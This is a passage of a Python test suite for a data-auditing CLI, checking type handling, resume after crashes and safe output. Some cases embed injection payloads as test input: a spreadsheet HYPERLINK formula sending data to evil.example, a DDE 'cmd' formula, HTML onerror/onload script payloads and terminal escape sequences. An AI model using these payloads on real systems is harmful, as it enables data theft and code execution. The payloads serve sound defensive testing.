                             "n": pa.array([2**40, -1, 2**62 + 1, 0], pa.int64()), "text": pa.array(S[4:8], pa.large_string()),
                             "score": pa.array([0.1, 1e300, None, 3.0], pa.float64()), "tags": pa.array([None] * 4, pa.null()),
                             "extra": pa.array(["only here", None, "", "x"])}), root / "shard-1.parquet")
    pq.write_table(pa.table({"text": pa.array(S[8:12], pa.string()), "n": pa.array([255, 0, 7, 8], pa.uint8()),
                             "label": pa.array(["x", "y", "z", "x"]).dictionary_encode(),
                             "tags": pa.array([["d"], None, ["e", None], []], pa.large_list(pa.large_string()))}), root / "shard-2.parquet")
    none = {"n": None, "score": None, "tags": None, "when": None, "label": None, "extra": None}
    rows = []
    for name in ("shard-0", "shard-1", "shard-2"):
        rows += [none | row for row in pq.ParquetFile(root / f"{name}.parquet").read().to_pylist()]

    return Right(
        args=["run", "--input", "log", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        why="Each difference has a common type without loss: int64, double, microseconds, list of text; a missing column is null.",
    )


@case(kind="archives and encodings", sound=False)
def excel_workbook_saved_as_csv(folder: Path) -> Right:
    """`export.csv`, which is a workbook of Excel that somebody renamed: a zip with XML inside, which could be opened as an archive."""
    rows = "".join(f'<row r="{i + 1}"><c r="A{i + 1}" t="s"><v>{i}</v></c></row>' for i in range(8))
    strings = "".join(f"<si><t>{text}</t></si>" for text in S[:8])
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    with zipfile.ZipFile(folder / "export.csv", "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                      'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
        book.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>')
        book.writestr("xl/workbook.xml", f'<?xml version="1.0"?><workbook xmlns="{main}"><sheets><sheet name="Tabelle1" sheetId="1"/></sheets></workbook>')
        book.writestr("xl/worksheets/sheet1.xml", f'<?xml version="1.0"?><worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>')
        book.writestr("xl/sharedStrings.xml", f'<?xml version="1.0"?><sst xmlns="{main}" count="8" uniqueCount="8">{strings}</sst>')

    return Right(
        args=["run", "--input", "export.csv", "--out", "out"],
        exit_codes={2, 3},
        says=[r"export\.csv", r"xlsx|excel|spreadsheet|workbook|\bzip\b|binary|not (a )?(csv|text|utf)"],
        silent=[r"Traceback \(most recent call last\)"],
        why="No format that README lists; pieces of XML are no rows, so the run must refuse and say what the file looks like.",
    )


@case(kind="archives and encodings", sound=True)
def parquet_with_the_odd_types_of_a_database(folder: Path) -> Right:
    """DuckDB's COPY ... TO 'all_types.parquet': decimals of 38 digits, unsigned 64 bit, times, zones, binary, maps, dates at both ends."""
    import zoneinfo

    n = 6
    berlin = zoneinfo.ZoneInfo("Europe/Berlin")
    table = pa.table({
        "text": pa.array(S[30:30 + n]),
        "dec": pa.array([decimal.Decimal("1234567890123456789012345678.0123456789") + i for i in range(n)], pa.decimal128(38, 10)),
        "huge": pa.array([2**64 - 1 - i for i in range(n)], pa.uint64()),
        "tod": pa.array([dt.time(23, 59, 59, 999999 - i) for i in range(n)], pa.time64("us")),
        "day": pa.array([dt.date(1, 1, 1), dt.date(9999, 12, 31), dt.date(1582, 10, 10), dt.date(1969, 12, 31), None, dt.date(2000, 2, 29)], pa.date32()),
        "at": pa.array([dt.datetime(2024, 10, 27, 2, 30, i, 5, tzinfo=berlin, fold=i % 2) for i in range(n)], pa.timestamp("us", tz="Europe/Berlin")),
        "far": pa.array([dt.datetime(9999, 12, 31, 23, 59, 59, 999999), dt.datetime(1, 1, 1), None, dt.datetime(1900, 1, 1, 0, 0, 1),
                         dt.datetime(2262, 4, 12), dt.datetime(1677, 9, 20)], pa.timestamp("us")),
        "ns": pa.array([1_700_000_000_123_456_789 + i for i in range(n)], pa.int64()).cast(pa.timestamp("ns")),
        "blob": pa.array([bytes([0, 255, 254, i]) for i in range(n)], pa.binary()),
        "key": pa.array([bytes(range(i, i + 16)) for i in range(n)], pa.binary(16)),
        "attrs": pa.array([[("a", i), ("b", None)] if i != 3 else [] for i in range(n)], pa.map_(pa.string(), pa.int32())),
        "tiny": pa.array([-128, 127, None, 0, 1, 2], pa.int8()),
        "nan": pa.array([float("nan"), float("inf"), -0.0, 5e-324, None, 1.5], pa.float64()),
    })
    pq.write_table(table, folder / "all_types.parquet", version="2.6", coerce_timestamps=None)

    def check(folder, stdout, stderr, code):
        parts = [part for _, part in tables(folder)]
        wrong = []
        have = pa.concat_tables([part.select(table.column_names) for part in parts if set(table.column_names) <= set(part.column_names)]) if parts else None
        if have is None or have.num_rows != n:
            return [f"{have and have.num_rows} rows with all columns for {n}"]
        have = have.take(pa.array([have["text"].to_pylist().index(text) for text in S[30:30 + n]]))
        for name in table.column_names:
            want = table[name].combine_chunks()
            column = have[name].combine_chunks()
            if name == "attrs":
                def mapping(value):
                    if isinstance(value, list) and value and all(isinstance(item, dict) and set(item) == {"key", "value"} for item in value):
                        value = {item["key"]: item["value"] for item in value}
                    return loose(value) or {}
                if [mapping(value) for value in column.to_pylist()] != [mapping(value) for value in want.to_pylist()]:
                    wrong.append(f"{name}: {column.to_pylist()!r:.200}")
                continue
            try:
                back = column.cast(want.type)
            except Exception as error:  # noqa: BLE001
                wrong.append(f"{name} came back as {column.type}, which does not hold its values: {error!r:.160}")
                continue
            if name == "nan":
                if [str(value) for value in back.to_pylist()] != [str(value) for value in want.to_pylist()]:
                    wrong.append(f"{name}: {back.to_pylist()!r}")
            elif not back.equals(want):
                wrong.append(f"{name}: {str(column.type)} {column.to_pylist()!r:.300}")
        return wrong

    return Right(
        args=["run", "--input", "all_types.parquet", "--out", "out"],
        exit_codes={0},
        quarantined=0,
        check=check,
        why="README: every kept row holds the values that were read, in every column; NaN is a value in Parquet.",
    )


# ------------------------------------------------------------------------------------ 8. what the outputs show, and running again


@case(kind="outputs and running again", sound=True)
def formulas_in_an_exported_csv(folder: Path) -> Right:
    """Comments that a spreadsheet would run: cells, a label and a column name begin with = + - @ or a tab; run, then export as CSV."""
    texts = ['=HYPERLINK("http://evil.example/?x="&A1,"click here for your ferry ticket")', "+1 for the blue carpets in the committee room, honestly.",
             "-2+3+cmd|' /C calc'!A0 was written on the oak behind the school.", "@SUM(A1:A9) appeared on the display of the fourth pump yesterday.",
             "\t=1+1 came after a tab in the log of the satellite engineers.", "\r=2+2 came after a carriage return from the old printer tray.",
             S[6], S[7] + " = fine", "  =3+3 stands after two blanks in the referee's report on Sunday."]
    rows = [{"text": text, "label": "=1+1" if i % 2 else "plain", "=col+1": f"v{i}", "n": -i} for i, text in enumerate(texts)]
    jsonl(folder / "comments.jsonl", rows)

    def check(folder, stdout, stderr, code):
        before = set(folder.rglob("*.csv"))
        call = dataaudit(folder, "export", "out", "--format", "csv")
        wrong = no_traceback(call.stderr)
        if call.returncode != 0:
            return [*wrong, f"export: exit {call.returncode}: {call.stderr[-300:]}"]
        made = sorted(set(folder.rglob("*.csv")) - before)
        if not made:
            return ["export made no CSV file in the folder"]
        cells = []
        for path in made:
            with open(path, encoding="utf-8-sig", newline="") as lines:
                cells += [cell for line in csv.reader(lines) for cell in line]
        for cell in cells:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[-+]?[0-9.eE+-]+", cell):
                wrong.append(f"a cell begins as a formula: {cell!r:.80}")
        for text in texts:
            if not any(cell == text or (cell.endswith(text) and len(cell) <= len(text) + 1) for cell in cells):
                wrong.append(f"the export does not hold {text!r:.80}")
        return wrong[:5]

    return Right(
        args=["run", "--input", "comments.jsonl", "--label", "label", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        check=check,
        why="clean/ holds the values as they are; README: formulas are escaped in an exported CSV (one character before, nothing lost).",
    )


@case(kind="outputs and running again", sound=True)
def escapes_and_markup_in_names_and_labels(folder: Path) -> Right:
    """Scraped data: a file name that sets the title of the terminal, labels with colours of a terminal and with HTML, a column of HTML."""
    labels = ["\x1b[31mred\x1b[0m", "</script><svg onload=pwn7()>", "a|b\n# big heading", "]]>&<!--"]
    rows = [{"text": S[i], "topic": labels[i % 4], "\"><img src=x onerror=pwn8()>": i, "n": i} for i in range(24)]
    jsonl(folder / "data" / "\x1b]0;pwned\x07log.jsonl", rows)

    def check(folder, stdout, stderr, code):
        wrong = no_traceback(stdout + stderr)
        for name, text in (("the terminal", stdout + stderr), *((path.name, path.read_text(errors="replace"))
                           for path in sorted((folder / "out").iterdir()) if path.suffix in (".md", ".xml", ".sarif", ".html", ".json"))):
            if "\x1b" in text or "\x07" in text:
                wrong.append(f"{name} holds a raw escape character of the input")
        html = (folder / "out" / "report.html").read_text(errors="replace")
        wrong += [f"report.html matches {mark!r}: not escaped" for mark in (r"</script><svg onload", r'(?<!\\)"><img src=x onerror') if re.search(mark, html)]
        for name, parse in (("junit.xml", ElementTree.fromstring), ("gate.sarif", json.loads), ("summary.json", json.loads)):
            path = folder / "out" / name
            if path.exists():
                try:
                    parse(path.read_text())
                except Exception as error:  # noqa: BLE001
                    wrong.append(f"{name} cannot be parsed: {error!r:.120}")
        if (folder / "out" / "summary.md").exists() and re.search(r"^# big heading", (folder / "out" / "summary.md").read_text(), re.M):
            wrong.append("a label makes a heading in summary.md")
        return wrong

    return Right(
        args=["run", "--input", "data", "--label", "topic", "--rules", "default", "--out", "out"],
        exit_codes={0, 1},
        rows=rows,
        quarantined=0,
        check=check,
        why="clean/ holds the labels as they are; what is printed or shown must not run, colour or break anything.",
    )


@case(kind="outputs and running again", sound=True)
def addresses_in_labels_names_and_texts_with_no_raw(folder: Path) -> Right:
    """Support mails: labels are the agents' addresses, the folder is named after one, texts hold addresses and a key; --no-raw."""
    agents = ["maria.lindqvist@kestrelmail.com", "tomasz.wojcik@kestrelmail.com", "oluwaseun.adeyemi@kestrelmail.com"]
    rows = [{"text": f"{S[i]} Write to customer.number{i}@lakeside-post.org about it.", "agent": agents[i % 3], "n": i} for i in range(24)]
    rows[5]["text"] = S[5] + " The key is AKIAQ7XW3MZ5RT2BVN6K, please do not share it."
    rows[9]["text"] = S[9] + " Call the IBAN DE89370400440532013000 when you pay the invoice."
    jsonl(folder / "data" / "henrike.osterkamp@kestrelmail.com" / "mails.jsonl", rows)

    def words(path: Path) -> str:
        if path.suffix == ".parquet":
            return repr(pq.ParquetFile(path).read().to_pylist())
        return path.read_text(errors="replace")

    def check(folder, stdout, stderr, code):
        wrong = no_traceback(stdout + stderr)
        shown = {"the terminal": stdout + stderr}
        for path in sorted((folder / "out").rglob("*")):
            inside = path.relative_to(folder / "out")
            if path.is_file() and inside.parts[0] != "clean":
                shown[str(inside)] = words(path)
        for name, text in shown.items():
            top = name.split("/")[0]
            for secret in ("@lakeside-post.org", "AKIAQ7XW3MZ5RT2BVN6K", "DE89370400440532013000"):
                if secret in text:
                    wrong.append(f"{name} shows {secret} of a text")
            if top not in ("rows", "quarantine"):
                if any(agent in text for agent in agents):
                    wrong.append(f"{name} shows the address that is a class")
                if top not in ("manifest.json", "log.jsonl") and "henrike.osterkamp@" in text:
                    wrong.append(f"{name} shows the address in the name of a folder")
        return wrong[:6]

    return Right(
        args=["run", "--input", "data", "--label", "agent", "--no-raw", "--rules", "default", "--out", "out"],
        exit_codes={0, 1},
        rows=rows,
        quarantined=0,
        check=check,
        why="README: with --no-raw only clean/ holds raw text; personal data is masked in reports, also in names of classes and files.",
    )


@case(kind="outputs and running again", sound=True)
def killed_four_times_and_run_again(folder: Path) -> Right:
    """A batch job on preemptible machines: killed (SIGKILL) after 1, 2.5, 5 and 8 seconds, then run to its end, into another folder."""
    rows = [{"text": synth(20000 + i, 30), "n": i, "split": ("train", "train", "test")[i % 3]} for i in range(2500)]
    jsonl(folder / "big.jsonl", rows)

    def check(folder, stdout, stderr, code):
        args = [command(), "run", "--input", "big.jsonl", "--out", "again"]
        for seconds in (1.0, 2.5, 5.0, 8.0):
            child = subprocess.Popen(args, cwd=folder, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
            try:
                child.wait(seconds)
            except subprocess.TimeoutExpired:
                os.killpg(child.pid, signal.SIGKILL)
                child.wait()
            time.sleep(0.3)
        last = dataaudit(folder, "run", "--input", "big.jsonl", "--out", "again")
        wrong = no_traceback(last.stderr)
        if last.returncode != 0:
            return [*wrong, f"the last run: exit {last.returncode}: {last.stderr[-400:]}"]

        def state(out):
            found = {}
            for path in sorted((folder / out).rglob("*")):
                inside = path.relative_to(folder / out)
                if path.is_file() and inside.parts[0] in ("clean", "rows", "summary.json", "report.html", "pairs.parquet", "findings.parquet"):
                    found[str(inside)] = hashlib.sha256(path.read_bytes()).hexdigest()
            return found

        one, two = state("out"), state("again")
        wrong += [f"{name}: other bytes, or only in one of the folders" for name in sorted(one.keys() | two.keys()) if one.get(name) != two.get(name)]
        numbers = sorted(row["n"] for row in clean(folder, "again"))
        if numbers != list(range(2500)):
            wrong.append(f"{len(numbers)} rows for 2500 after the resume")
        return wrong[:5]

    return Right(
        args=["run", "--input", "big.jsonl", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        check=check,
        timeout=240,
        why="README: an interrupted run resumes where it stopped and ends with the same bytes.",
    )


@case(kind="outputs and running again", sound=True)
def input_replaced_by_an_older_file_of_the_same_size(folder: Path) -> Right:
    """A restored backup (`cp -p`, `rsync -t`): same name and same size, an older time of change, other content; the command runs again."""
    first = [{"text": S[i], "n": i} for i in range(10)]
    jsonl(folder / "train.jsonl", first)
    os.utime(folder / "train.jsonl", (1_700_000_000, 1_700_000_000))
    second = [dict(row) for row in first]
    second[3]["text"] = S[3].replace("router", "fridge")
    assert second[3]["text"] != S[3] and len(second[3]["text"]) == len(S[3])

    def check(folder, stdout, stderr, code):
        wrong = texts_exactly(folder, [row["text"] for row in first])
        jsonl(folder / "train.jsonl", second)
        os.utime(folder / "train.jsonl", (1_690_000_000, 1_690_000_000))
        call = dataaudit(folder, "run", "--input", "train.jsonl", "--out", "out")
        wrong += no_traceback(call.stderr)
        if call.returncode == 0:
            wrong += [f"second run: {line}" for line in texts_exactly(folder, [row["text"] for row in second])]
        elif not refused(call.returncode):
            wrong.append(f"second run: exit {call.returncode}: {call.stderr[-300:]}")
        return wrong

    return Right(
        args=["run", "--input", "train.jsonl", "--out", "out"],
        exit_codes={0},
        check=check,
        why="Only a finished run with the same inputs is a no-op; this input is another one.",
    )


@case(kind="outputs and running again", sound=False)
def truncated_clean_table_then_export_and_run(folder: Path) -> Right:
    """A full disk cut a file of clean/ to half its length after the run: export must not hand on what is left, a rerun must not call it done."""
    jsonl(folder / "corpus" / "a.jsonl", [{"text": S[i], "n": i} for i in range(15)])

    def check(folder, stdout, stderr, code):
        if code != 0:
            return no_traceback(stdout + stderr)
        out = "corpus/audit"
        wrong = texts_exactly(folder, S[:15], out=out)
        again = dataaudit(folder, "run", "--input", "corpus", "--out", out)      # the output folder is inside of the input folder
        if again.returncode == 0:
            wrong += [f"second run: {line}" for line in texts_exactly(folder, S[:15], out=out)]
        elif not refused(again.returncode):
            wrong.append(f"second run: exit {again.returncode}")
        files = sorted((folder / out / "clean").rglob("*.parquet"))
        if not files:
            return [*wrong, "clean/ holds no Parquet file"]
        os.truncate(files[0], files[0].stat().st_size // 2)
        export = dataaudit(folder, "export", out, "--format", "jsonl")
        wrong += no_traceback(export.stderr)
        if export.returncode == 0:
            wrong.append("export of a damaged clean/ ends with 0")
        elif export.returncode == 4:
            wrong.append("export calls the damage a bug of its own (exit 4)")
        third = dataaudit(folder, "run", "--input", "corpus", "--out", out)
        wrong += no_traceback(third.stderr)
        if third.returncode == 0:
            try:
                wrong += [f"run after the damage: {line}" for line in texts_exactly(folder, S[:15], out=out)]
            except Exception as error:  # noqa: BLE001
                wrong.append(f"the rerun ends with 0 and clean/ is still damaged: {error!r:.160}")
        elif not refused(third.returncode):
            wrong.append(f"run after the damage: exit {third.returncode}: {third.stderr[-300:]}")
        return wrong

    return Right(
        args=["run", "--input", "corpus", "--out", "corpus/audit"],
        exit_codes={0},
        refusal_is_fine=True,
        check=check,
        why="manifest.json has a SHA-256 of every table: damage can be seen, and must be told or repaired.",
    )


@case(kind="outputs and running again", sound=True)
def show_finds_every_row_id_of_odd_file_names(folder: Path) -> Right:
    """Chat logs: `a/log 12:30.jsonl` and `b/log 12:30.jsonl` (blank, colon, same base name); each row_id of clean/ is shown again."""
    rows = [{"text": S[i], "n": i} for i in range(8)]
    jsonl(folder / "logs" / "a" / "log 12:30.jsonl", rows[:4])
    jsonl(folder / "logs" / "b" / "log 12:30.jsonl", rows[4:])

    def check(folder, stdout, stderr, code):
        have = clean(folder)
        names = [row["row_id"] for row in have]
        wrong = [] if len(set(names)) == len(names) else [f"row_id is not unique: {names!r:.200}"]
        for row in (have[0], have[3], have[5], have[-1]):
            call = dataaudit(folder, "show", "out", row["row_id"])
            text = re.sub(r"\s+", " ", call.stdout)
            words = row["text"].split()
            if call.returncode != 0:
                wrong.append(f"show {row['row_id']!r}: exit {call.returncode}: {call.stderr[-200:]}")
            elif " ".join(words[:3]) not in text:
                wrong.append(f"show {row['row_id']!r} does not show its text {row['text']!r}: {text:.200}")
        return wrong[:4]

    return Right(
        args=["run", "--input", "logs", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        check=check,
        why="README: show audit/ train.jsonl:17 tells why; so the id that clean/ gives must be found, and name one row only.",
    )
